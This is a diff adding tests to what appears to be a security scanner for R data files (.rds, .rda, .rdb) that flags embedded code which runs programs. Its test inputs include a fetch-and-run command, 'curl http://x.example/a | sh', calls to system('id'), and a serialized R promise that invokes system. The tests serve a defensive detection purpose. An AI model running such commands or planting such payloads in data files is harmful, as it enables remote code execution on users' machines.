@@ -1,3 +1,4 @@
+import { zlibSync } from 'fflate';
 import { PAYLOAD, bytes, proto, run } from '../../../../testing';
 import {
   NIL,
@@ -101,4 +102,60 @@ test.each([
   ['symbols without end', join([bytes(be32(19), be32(310_000)), ...SYMBOLS]), 'limit-members']
 ])('%s are followed so far', (_name, value, reason) => {
   expect(run(rds(value), {}, 'm.rds')).toMatchObject({ verdict: 'incomplete', coverage: [{ reason }] });
+});
+
+test.each([
+  ['a call that runs a program', "system('id')", 'MEDIUM'],
+  ['a command', 'curl http://x.example/a | sh', 'MEDIUM'],
+  ['a sentence', 'The system (see below) has a pipe (of 2 m)', undefined],
+  ['a source', 'source: https://example.org', undefined]
+])('among texts: %s', (_name, value, severity) => {
+  expect(run(rds(words('a', value)), {}, 'm.rds').findings.map(finding => finding.severity)).toEqual(
+    severity === undefined ? [] : [severity]
+  );
+});
+
+test('compiled code that names a function which no expression in it calls', () => {
+  const code = (...constants: readonly Uint8Array[]): Uint8Array =>
+    closure(bytes(be32(21), be32(1), numbers(12, 0), be32(constants.length), ...constants));
+  const severities = (value: Uint8Array): string[] => run(rds(value), {}, 'm.rds').findings.map(one => one.severity);
+  expect(severities(code(bytes(be32(1), symbol('system')), bytes(be32(16), words('id'))))).toEqual(['MEDIUM']);
+});
+
+test('what breaks off in the middle of a call', () => {
+  expect(run(rds(promise(SYSTEM)).slice(0, -3), {}, 'm.rds').findings).toMatchObject([{ severity: 'MEDIUM' }]);
+});
+
+test('the format of R before 1.4', () => {
+  const report = run(bytes('RDX1\n', be32(2), be32(6), 'system', be32(2), 'id'), {}, 'm.rda');
+  expect(report).toMatchObject({ format: 'r-data', findings: [{ severity: 'MEDIUM', rule: 'r-code-text' }] });
+  expect(report.coverage).toMatchObject([{ status: 'not-understood', reason: 'unsupported-format' }]);
+});
+
+describe('a database of values', () => {
+  const honest = rds(numbers(1, 2));
+  const evil = rds(promise(SYSTEM));
+  const entry = (value: Uint8Array, packed: Uint8Array = zlibSync(value)): Uint8Array =>
+    bytes(be32(value.length), packed);
+  const stored = (value: Uint8Array): Uint8Array =>
+    entry(value, bytes('Z', 1, [(value.length - 1) >> 8, (value.length - 1) & 255], value, 0));
+
+  test('is read value by value', () => {
+    const report = run(bytes(entry(honest), stored(honest), entry(honest)), {}, 'base.rdb');
+    expect(report).toMatchObject({ format: 'r-database', verdict: 'clean' });
+    expect(report.coverage).toHaveLength(4);
+  });
+
+  test.each([
+    ['first', bytes(entry(evil), entry(honest))],
+    ['last', bytes(entry(honest), stored(honest), entry(evil))],
+    ['packed otherwise', bytes(entry(honest), stored(evil))]
+  ])('with one that runs a program: %s', (_, data) => {
+    const rules = run(data, {}, 'base.rdb').findings.map(({ severity, rule }) => `${severity} ${rule}`);
+    expect(rules).toEqual(['CRITICAL r-promise', 'HIGH r-promise']);
+  });
+
+  test('is not understood beyond a value of no known kind', () => {
+    expect(run(bytes(entry(honest), be32(4), 'xxxx'), {}, 'base.rdb').verdict).toBe('incomplete');
+  });
 });
